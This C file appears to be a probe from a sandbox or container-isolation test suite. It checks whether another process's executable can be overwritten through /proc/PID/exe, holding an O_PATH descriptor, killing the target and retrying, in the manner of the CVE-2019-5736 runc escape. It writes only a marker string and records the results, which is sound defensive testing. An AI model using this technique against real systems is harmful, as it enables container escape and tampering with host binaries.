/*
 * Overwrite the program of another process through /proc/PID/exe, also by holding it as O_PATH until that process is
 * gone (the way of CVE-2019-5736). argv[1]: the pid; argv[2] "wait": wait for its end before the last try.
 */
#include "probe.h"

static void overwrite(const char *name, const char *path)
{
    int fd = open(path, O_WRONLY | O_CLOEXEC);
    probe(name, fd);
    if (fd >= 0) {
        if (write(fd, "attack", 6) != 6)
            fact(name, "%s", errno_word(errno));
        close(fd);
    }
}

int main(int argc, char **argv)
{
    if (argc < 2)
        return 2;
    char path[64];
    snprintf(path, sizeof path, "/proc/%s/exe", argv[1]);
    char target[PATH_MAX];
    probe("readlink", readlink(path, target, sizeof target));
    int held = open(path, O_PATH | O_CLOEXEC);
    probe("hold", held);
    int now = open(path, O_WRONLY | O_CLOEXEC);
    probe("write_running", now);
    if (held >= 0) {
        snprintf(path, sizeof path, "/proc/self/fd/%d", held);
        if (argc > 2)
            kill(atoi(argv[1]), SIGKILL);
        int tries = 50;
        int fd;
        while ((fd = open(path, O_WRONLY | O_CLOEXEC)) < 0 && errno == ETXTBSY && tries-- > 0)
            nap(10);
        if (fd >= 0)
            close(fd);
        overwrite("write_held", path);
    }
    overwrite("self", "/proc/self/exe");
    return 0;
}
